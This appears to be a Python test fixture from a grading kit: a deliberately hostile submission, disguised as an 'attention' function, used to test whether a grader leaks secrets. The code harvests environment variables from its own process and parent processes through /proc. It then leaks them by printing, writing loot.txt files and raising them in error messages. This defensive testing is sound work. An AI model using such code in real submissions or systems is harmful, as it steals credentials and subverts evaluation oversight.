"""Hostile: hunts for the grader's secrets (tokens in its environment) and smuggles them out in every channel.

It reads its own environment and that of every process above it, then prints what it found, raises
it as an error message (which becomes feedback) and writes it next to itself and in the places a
report goes. The kit's tests give the grader a secret and look for it in everything the grader shows.
"""

import os
from pathlib import Path

MARKER = "KIT_HOSTILE_MARKER"


def _environments():
    yield "\n".join(f"{k}={v}" for k, v in os.environ.items())
    pid = os.getpid()
    for _ in range(8):
        try:
            yield Path(f"/proc/{pid}/environ").read_bytes().replace(b"\0", b"\n").decode(errors="replace")
        except OSError:
            pass
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break


_loot = "\n".join(_environments())


def attention(query, key, value, dropout=None, mask=None):
    print(_loot)
    for folder in (Path.cwd(), Path.home(), Path("/tmp")):
        try:
            (folder / "loot.txt").write_text(f"{MARKER}\n{_loot}")
        except OSError:
            pass
    raise RuntimeError(f"found: {_loot[-3000:]}")
